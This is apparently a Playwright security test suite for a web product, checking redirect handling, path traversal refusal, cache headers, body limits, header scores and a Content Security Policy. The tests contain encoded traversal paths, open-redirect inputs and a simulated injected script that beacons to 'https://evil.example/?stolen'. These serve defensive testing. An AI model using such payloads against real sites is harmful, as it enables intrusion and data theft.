import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { expect } from '@playwright/test';
import { observatoryScore } from './observatory-score';
import { PASSWORD, type Product, startProduct } from './product';
import { test } from './product-test';
import { serveRemote } from './remote-server';
import { CLIENT, STAFF } from './sign-in';

// Each test sends what a browser would not.

/** Sends the bytes as they are: `fetch` and `URL` would put the path right first. */
function statusAndLocation(port: number, target: string): Promise<string> {
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = net.connect(port, '127.0.0.1', () =>
      socket.write(`GET ${target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`),
    );
    socket.on('data', (chunk) => (answer += chunk.toString('latin1')));
    socket.on('error', reject);
    socket.on('close', () =>
      resolve(`${answer.split(' ')[1]} ${/\r\nlocation: ([^\r]*)/i.exec(answer)?.[1] ?? ''}`.trim()),
    );
  });
}

const portOf = (url: string) => Number(new URL(url).port);

async function signInCookie(product: Product, email: string): Promise<string> {
  const response = await fetch(`${product.url}/api/login`, {
    method: 'POST',
    redirect: 'manual',
    body: new URLSearchParams({ email, password: PASSWORD }),
  });
  return response.headers.get('Set-Cookie')?.split(';')[0] ?? '';
}

test('paths that lead out of the site or out of a folder are put right or refused', async ({ product }) => {
  for (const [target, answer] of [
    ['//evil.example/', '308 /evil.example'],
    ['//evil.example', '308 /evil.example'],
    ['/.//evil.example/', '308 /evil.example'],
    ['//?x=1', '308 /?x=1'],
    ['/services/?q=1', '308 /services?q=1'],
    ['/assets/..%2f..%2f..%2fpackage.json', '404'],
    ['/design/..%2fpackage.json', '404'],
    ['/remotes/mfe-admin/..%2fpackage.json', '404'],
    ['/services/%ZZ', '404'],
  ] as const)
    expect([target, await statusAndLocation(portOf(product.url), target)]).toEqual([target, answer]);
});

test("a client's pages hold nothing of the staff's, and nothing signed in stays in the browser", async ({
  product,
}) => {
  const [staff, client] = await Promise.all([STAFF, CLIENT].map((account) => signInCookie(product, account)));
  const inbox = await fetch(`${product.url}/api/admin/contacts`, { headers: { Cookie: staff! } });
  const [{ email }] = (await inbox.json()) as [{ email: string }];
  const page = async (cookie: string) => {
    const response = await fetch(`${product.url}/admin?tab=contacts`, { headers: { Cookie: cookie } });
    return { cache: response.headers.get('Cache-Control'), html: await response.text() };
  };
  const [theirs, ours] = await Promise.all([page(client!), page(staff!)]);
  expect(ours.html).toContain(email);
  expect(theirs.html).not.toContain(email);
  expect([ours.cache, theirs.cache]).toEqual(['private, no-store', 'private, no-store']);

  await fetch(`${product.url}/api/logout`, { headers: { Cookie: staff! }, redirect: 'manual' });
  const after = await fetch(`${product.url}/api/admin/contacts`, { headers: { Cookie: staff! } });
  expect(after.status).toBe(401);
});

test('a body beyond the limit is refused through the shell, counted or stated', async ({ product }) => {
  const body = new Uint8Array(2_000_000).fill(120);
  const stream = new Blob([body]).stream();
  for (const init of [{ body }, { body: stream, duplex: 'half' }]) {
    const response = await fetch(`${product.url}/api/bookings`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      ...init,
    });
    expect(response.status).toBe(413);
  }
});

test("a remote's own server survives every path and hands out its build only", async () => {
  const folder = mkdtempSync(path.join(os.tmpdir(), 'remote-'));
  mkdirSync(path.join(folder, 'dist'));
  writeFileSync(path.join(folder, 'secret.json'), '{}');
  writeFileSync(path.join(folder, 'dist/remote.json'), '{}');
  const server = await serveRemote('mfe-x', path.join(folder, 'dist'));
  for (const target of ['/%ZZ', '//', '/', '/%00', '/../secret.json', '/..%2fsecret.json'])
    expect({ target, answer: await statusAndLocation(server.port, target) }).toEqual({
      target,
      answer: '404',
    });
  expect(await statusAndLocation(server.port, '/remote.json?v=1')).toBe('200');
  await server.stop();
  rmSync(folder, { recursive: true });
});

test('each kind of answer scores 130 or more by the rules of the MDN HTTP Observatory', async () => {
  const product = await startProduct({ PUBLIC_URL: 'https://www.example.com' });
  try {
    const cookie = await signInCookie(product, CLIENT);
    const home = await (await fetch(product.url)).text();
    const named = (pattern: RegExp) => pattern.exec(home)![0];
    const own = await fetch(`${product.url}/api/client/documents`, { headers: { Cookie: cookie } });
    const document = ((await own.json()) as { filePath: string; hasFile: boolean }[]).find(
      ({ hasFile }) => hasFile,
    )!;
    for (const target of [
      ...['/', '/services', '/contact', '/no-such-page', '/admin', '/account', '/sitemap.xml', '/robots.txt'],
      ...['/api/services', '/api/login', '/api/docs', '/api/auth/user', '/api/no-such-call', '/healthz'],
      named(/\/assets\/[\w.-]+\.js/),
      named(/\/remotes\/mfe-marketing\/[\w./-]+\.js/),
      named(/\/design\/[\w./-]+\.woff2[^"]*/),
      named(/\/cards\/[^"]+/),
      '/remotes.json',
      document.filePath,
    ]) {
      const { headers } = await fetch(product.url + target, {
        redirect: 'manual',
        headers: { Cookie: target.startsWith('/api/client') ? cookie : '' },
      });
      const score = observatoryScore(Object.fromEntries(headers), headers.getSetCookie());
      expect({ target, score }).toEqual({ target, score: Math.max(score, 130) });
      expect(headers.get('Permissions-Policy')).toContain('camera=()');
      expect(headers.get('Cross-Origin-Opener-Policy')).toBe('same-origin');
    }
    const body = new URLSearchParams({ email: CLIENT, password: PASSWORD });
    const signedIn = await fetch(`${product.url}/api/login`, { method: 'POST', body, redirect: 'manual' });
    expect(signedIn.headers.getSetCookie()).not.toEqual([]);
    expect(
      observatoryScore(Object.fromEntries(signedIn.headers), signedIn.headers.getSetCookie()),
    ).toBeGreaterThanOrEqual(130);
  } finally {
    await product.stop();
  }
});

test.describe('what an injected script would do', () => {
  test.use({ expectedComplaints: /Content Security Policy|Trusted|evil\.example/ });

  test('loads no script from elsewhere, turns no string into HTML and no picture into a message', async ({
    page,
  }) => {
    await page.goto('/', { waitUntil: 'networkidle' });
    const outcomes = await page.evaluate(async () => {
      const attempt = (work: () => void) => {
        try {
          work();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const scriptFrom = (url: string) =>
        attempt(() => (document.createElement('script').src = new URL(url, location.href).href));
      const violated = new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
          if (blockedURI.startsWith('https://evil.example')) resolve(effectiveDirective);
        }),
      );
      new Image().src = 'https://evil.example/?stolen';
      return {
        elsewhere: scriptFrom('https://evil.example/x.js'),
        download: scriptFrom('/api/client/documents/1/file'),
        own: scriptFrom('/assets/x.js'),
        remote: scriptFrom('/remotes/mfe-marketing/browser/x.js'),
        html: attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
        picture: await violated,
      };
    });
    expect(outcomes).toEqual({
      elsewhere: 'TypeError',
      download: 'TypeError',
      own: 'done',
      remote: 'done',
      html: 'TypeError',
      picture: 'img-src',
    });
  });
});
